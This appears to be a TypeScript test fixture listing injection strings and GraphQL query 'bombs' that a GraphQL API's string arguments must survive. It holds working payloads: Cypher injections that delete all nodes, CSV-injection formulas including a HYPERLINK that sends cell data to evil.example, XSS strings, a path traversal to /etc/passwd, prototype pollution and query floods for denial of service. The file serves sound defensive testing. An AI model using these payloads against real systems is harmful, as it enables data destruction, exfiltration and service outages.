// The injection corpus: strings every string argument must survive, and whole GraphQL documents (bombs).

/** One entry of the corpus: a name for reports and the string itself. */
export interface Injection {
  name: string;
  value: string;
}

const MB = 1024 * 1024;

/** Cypher fragments: none may reach Cypher as text (values are always $params). */
const CYPHER: Injection[] = [
  { name: 'cypher-or', value: "' OR 1=1 //" },
  { name: 'cypher-dq-or', value: '" OR 1=1 //' },
  { name: 'cypher-delete', value: '}) MATCH (n) DETACH DELETE n //' },
  { name: 'cypher-delete-id', value: "domain:x'}) MATCH (n) DETACH DELETE n //" },
  { name: 'cypher-call', value: "x' CALL db.labels() YIELD label RETURN label //" },
  { name: 'cypher-backticks', value: '`Domain` `) DETACH DELETE n //' },
  { name: 'cypher-param', value: '$param' },
  { name: 'cypher-param-id', value: 'domain:$id' },
  { name: 'cypher-load-csv', value: "LOAD CSV FROM 'http://127.0.0.1:1/x' AS r RETURN r" },
  { name: 'cypher-comment', value: '/* */ RETURN 1 //' },
];

/** Lucene syntax: search must treat it as text. */
const LUCENE: Injection[] = [
  { name: 'lucene-star', value: '*' },
  { name: 'lucene-leading-wildcard', value: '*a?' },
  { name: 'lucene-fuzzy', value: 'scam~2' },
  { name: 'lucene-field', value: 'value:example' },
  { name: 'lucene-range', value: '[a TO z]' },
  { name: 'lucene-range-curly', value: '{a TO z}' },
  { name: 'lucene-quote', value: '"unbalanced' },
  { name: 'lucene-paren', value: '((a OR b' },
  { name: 'lucene-backslash', value: '\\' },
  { name: 'lucene-regex', value: '/.*/' },
  { name: 'lucene-bool', value: 'a AND OR NOT && || !' },
  { name: 'lucene-boost', value: 'a^100 b^' },
  { name: 'lucene-many-terms', value: Array.from({ length: 600 }, (_, i) => `t${i}`).join(' ') },
];

/** Spreadsheet formulas (CSV injection). */
const FORMULAS: Injection[] = [
  { name: 'formula-hyperlink', value: '=HYPERLINK("http://evil.example/?x="&A1,"click")' },
  { name: 'formula-cmd', value: "+cmd|' /C calc'!A0" },
  { name: 'formula-at', value: '@SUM(1)' },
  { name: 'formula-minus', value: "-2+3+cmd|' /C calc'!A0" },
  { name: 'formula-tab', value: '\t=1+1' },
  { name: 'formula-cr', value: '\r=1+1' },
];

/** Markdown and HTML in names. */
const MARKUP: Injection[] = [
  { name: 'md-link', value: '[x](http://evil.example)' },
  { name: 'md-heading', value: '# heading\n## more' },
  { name: 'md-image', value: '![x](http://evil.example/p.png)' },
  { name: 'html-script', value: '<script>alert(1)</script>' },
  { name: 'html-img', value: '<img src=x onerror=alert(1)>' },
  { name: 'html-entity', value: '&lt;&#x3C;&amp;' },
];

/** Unicode oddities. */
const UNICODE: Injection[] = [
  { name: 'rtl-override', value: 'exa\u202Eelpmaxe.com' },
  { name: 'zero-width', value: 'exa\u200Bmple\u200D.com\uFEFF' },
  { name: 'lone-high-surrogate', value: 'a\uD800b' },
  { name: 'lone-low-surrogate', value: '\uDC00' },
  { name: 'nul', value: 'domain:a\u0000b' },
  { name: 'nul-only', value: '\u0000' },
  { name: 'control-chars', value: '\u0001\u0007\u001b[31m\u007f' },
  { name: 'combining', value: 'e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301' },
  { name: 'emoji', value: '👩‍👩‍👧‍👦.example' },
  { name: 'fullwidth', value: 'ｅｘａｍｐｌｅ．ｃｏｍ' },
  { name: 'newlines', value: 'a\nb\r\nc\u2028d\u2029' },
];

/** Sizes: empty, whitespace, long and oversized. */
const SIZES: Injection[] = [
  { name: 'empty', value: '' },
  { name: 'spaces', value: '   \t  ' },
  { name: 'long-4k', value: 'a'.repeat(4096) },
  { name: 'long-1mb', value: 'x'.repeat(MB) },
  { name: 'long-1mb-words', value: 'scam '.repeat(MB / 5) },
];

/** Other classics: path traversal, JSON, template and prototype keys. */
const OTHER: Injection[] = [
  { name: 'path-traversal', value: '../../../../etc/passwd' },
  { name: 'url-encoded', value: '%27%20OR%201%3D1%20--' },
  { name: 'json', value: '{"__proto__":{"polluted":true}}' },
  { name: 'proto', value: '__proto__' },
  { name: 'template', value: '${7*7}{{7*7}}' },
  { name: 'graphql', value: '"){ __schema { types { name } } }' },
  { name: 'prefixed-garbage', value: 'wallet:tron:' },
];

export const INJECTIONS: readonly Injection[] = [
  ...CYPHER,
  ...LUCENE,
  ...FORMULAS,
  ...MARKUP,
  ...UNICODE,
  ...SIZES,
  ...OTHER,
];

/** The corpus without the megabyte strings (for paths where size is checked elsewhere, e.g. URLs). */
export const SMALL_INJECTIONS: readonly Injection[] = INJECTIONS.filter(
  (i) => i.value.length <= 8192,
);

/** A whole GraphQL document sent as one request, with the time it must be answered (or refused) in. */
export interface Bomb {
  name: string;
  query: string;
  /** The variables as JSON text (some are too deep for JSON.stringify). */
  variables?: string;
}

function aliases(n: number, field: string): string {
  return `{ ${Array.from({ length: n }, (_, i) => `a${i}: ${field}`).join(' ')} }`;
}

function nested(depth: number): string {
  let inner = 'name';
  for (let i = 0; i < depth; i++) inner = `ofType { ${inner} }`;
  return `{ __schema { types { fields { type { ${inner} } } } } }`;
}

/** Fragments that each spread the next one twice: 2^depth expansions of one field. */
function fragmentFanOut(depth: number): string {
  const frags = Array.from({ length: depth }, (_, i) =>
    i === depth - 1
      ? `fragment F${i} on Query { ok stats { totalNodes } }`
      : `fragment F${i} on Query { ...F${i + 1} ...F${i + 1} }`,
  );
  return `{ ...F0 }\n${frags.join('\n')}`;
}

/** GraphQL alias, fragment, depth and directive bombs; GraphQL Armor's defaults should refuse most. */
export const BOMBS: readonly Bomb[] = [
  { name: 'alias-typename-10k', query: aliases(10_000, '__typename') },
  { name: 'alias-typename-100k', query: aliases(100_000, '__typename') },
  { name: 'alias-stats-200', query: aliases(200, 'stats { totalNodes }') },
  {
    name: 'alias-export-8',
    query: aliases(8, 'exportIndicators(format: CSV) { count content }'),
  },
  {
    name: 'alias-cluster-50',
    query: `query($id: ID!) ${aliases(50, 'cluster(id: $id, limit: 5000) { truncated nodes { id } }')}`,
  },
  { name: 'alias-search-100', query: aliases(100, 'search(query: "a") { hits { score } }') },
  { name: 'depth-introspection-60', query: nested(60) },
  {
    name: 'depth-entity-sources',
    query: `{ lookup(value: "x.example") { entity { sources { id name } } entity { id } } }`,
  },
  { name: 'fragment-fanout-12', query: fragmentFanOut(12) },
  {
    name: 'fragment-cycle',
    query: '{ ...A } fragment A on Query { ...B } fragment B on Query { ...A }',
  },
  {
    name: 'fragment-unused-5k',
    query: `{ ok } ${Array.from({ length: 5000 }, (_, i) => `fragment U${i} on Query { ok }`).join(' ')}`,
  },
  {
    name: 'directive-include-5k',
    query: `{ ok ${'@include(if: true) '.repeat(5000)} }`,
  },
  { name: 'directive-unknown-10k', query: `{ ok ${'@x '.repeat(10_000)} }` },
  {
    name: 'variables-10k',
    query: `query(${Array.from({ length: 10_000 }, (_, i) => `$v${i}: Int`).join(', ')}) { ok }`,
  },
  { name: 'tokens-500k-commas', query: `{ ok ${','.repeat(500_000)} }` },
  {
    name: 'string-1mb-literal',
    query: `{ search(query: "${'x'.repeat(MB)}") { hits { score } } }`,
  },
  {
    name: 'deep-list-variable',
    query: 'query($k: [EntityKind!]) { search(query: "a", kinds: $k) { hits { score } } }',
    variables: `{"k": ${'['.repeat(5000)}${']'.repeat(5000)}}`,
  },
  {
    name: 'introspection-full',
    query: '{ __schema { types { name fields { name args { name } } } } }',
  },
  {
    name: 'operation-many-10k',
    query: Array.from({ length: 10_000 }, (_, i) => `query Q${i} { ok }`).join(' '),
  },
];
